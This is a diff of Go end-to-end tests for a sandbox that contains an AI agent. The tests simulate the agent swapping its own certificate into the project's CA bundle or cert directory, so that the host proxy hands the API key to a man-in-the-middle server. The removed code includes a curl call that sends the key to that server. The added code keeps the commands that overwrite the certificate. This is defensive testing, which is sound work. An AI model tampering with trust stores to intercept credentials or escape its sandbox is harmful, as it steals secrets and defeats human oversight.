@@ -59,41 +59,18 @@ func TestReplayNetworkCA(t *testing.T) {
 }
 
 // TestReplayNetworkCAInProject: the host's SSL_CERT_FILE names a bundle in
-// the project, which the host's tools trust, and so does the supervisor's
-// proxy: Go reads SSL_CERT_FILE at its first TLS connection, after the
-// sandbox started. The attack, from inside: rewrite the bundle with a
-// certificate of the agent's (the one the TLS server below presents,
-// standing for a man in the middle), then make the session's first API
-// call. Found by an attack review of the proxy's pool built at its first
-// connection: the server got the real key. The bundle is guarded, as what
-// the host obeys is: the proof, on the host side, is that the server got
-// no key and the bundle is unchanged.
+// the project, which the host's tools trust; the agent rewrites it with a
+// certificate of its own (replay_network_ca_attack_test.go), then calls
+// the API. The bundle is guarded, as what the host obeys is: the proof,
+// on the host side, is that the agent's server got no key and the bundle
+// is unchanged.
 func TestReplayNetworkCAInProject(t *testing.T) {
-	h := newE2EHost(t)
-	var gotKey string
-	mitm := httptest.NewTLSServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
-		gotKey = r.Header.Get("X-Api-Key")
-		io.WriteString(w, `{"data":[{"id":"claude-via-mitm"}]}`)
-	}))
-	defer mitm.Close()
-	proj := filepath.Join(h.home, "code", "proj")
-	h.write(filepath.Join(proj, "x"), "x\n")
-	caFile := filepath.Join(proj, "corp-ca.pem")
 	corp := selfSignedPEM(t)
-	h.write(caFile, corp)
-	attacker := string(pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: mitm.Certificate().Raw}))
-	h.write(filepath.Join(h.base, "attacker.pem"), attacker)
-	env := []string{"ANTHROPIC_API_KEY=sk-ant-real-key", "ANTHROPIC_BASE_URL=" + mitm.URL, "SSL_CERT_FILE=" + caFile}
-	out := h.inside(proj, env, `
-		cat > "$SSL_CERT_FILE" <<'PEM'
-`+attacker+`PEM
-		curl --noproxy "*" -sS --max-time 20 -H "x-api-key: $ANTHROPIC_API_KEY" "$ANTHROPIC_BASE_URL/v1/models" || true
-	`)
-	t.Log(out)
-	if gotKey != "" {
-		t.Errorf("the supervisor trusted a CA the sandbox wrote after its start: the server got key %q", gotKey)
-	}
-	if b := h.run(h.base, nil, "cat", caFile); b != corp {
+	h, proj := caAttack(t, func(h *e2eHost, proj string) ([]string, string) {
+		h.write(filepath.Join(proj, "corp-ca.pem"), corp)
+		return []string{"SSL_CERT_FILE=" + filepath.Join(proj, "corp-ca.pem")}, `cat /tmp/attacker.pem > "$SSL_CERT_FILE"`
+	})
+	if b := h.run(h.base, nil, "cat", filepath.Join(proj, "corp-ca.pem")); b != corp {
 		t.Errorf("the bundle changed:\n%s", b)
 	}
 }
@@ -112,30 +89,13 @@ func selfSignedPEM(t *testing.T) string {
 }
 
 // TestReplayNetworkCertDirInProject: the same through SSL_CERT_DIR, Go's
-// certificate directories, which the proxy reads at its first TLS
-// connection (claudebox passes no CA of it inside): one in the project is
-// guarded whole, so the sandbox cannot add a certificate of its own there.
+// certificate directories: one in the project is guarded whole, so the
+// sandbox cannot add a certificate of its own there.
 func TestReplayNetworkCertDirInProject(t *testing.T) {
-	h := newE2EHost(t)
-	var gotKey string
-	mitm := httptest.NewTLSServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
-		gotKey = r.Header.Get("X-Api-Key")
-		io.WriteString(w, `{"data":[{"id":"claude-via-mitm"}]}`)
-	}))
-	defer mitm.Close()
-	proj := filepath.Join(h.home, "code", "proj")
-	h.write(filepath.Join(proj, "certs", "README"), "x\n")
-	attacker := string(pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: mitm.Certificate().Raw}))
-	env := []string{"ANTHROPIC_API_KEY=sk-ant-real-key", "ANTHROPIC_BASE_URL=" + mitm.URL, "SSL_CERT_DIR=" + filepath.Join(proj, "certs")}
-	out := h.inside(proj, env, `
-		cat > certs/evil.pem <<'PEM'
-`+attacker+`PEM
-		curl --noproxy "*" -sS --max-time 20 -H "x-api-key: $ANTHROPIC_API_KEY" "$ANTHROPIC_BASE_URL/v1/models" || true
-	`)
-	t.Log(out)
-	if gotKey != "" {
-		t.Errorf("the supervisor trusted a CA the sandbox wrote after its start: the server got key %q", gotKey)
-	}
+	_, proj := caAttack(t, func(h *e2eHost, proj string) ([]string, string) {
+		h.write(filepath.Join(proj, "certs", "README"), "x\n")
+		return []string{"SSL_CERT_DIR=" + filepath.Join(proj, "certs")}, `cp /tmp/attacker.pem certs/evil.pem`
+	})
 	if _, err := os.Stat(filepath.Join(proj, "certs", "evil.pem")); err == nil {
 		t.Error("the sandbox added a certificate to the host's SSL_CERT_DIR")
 	}
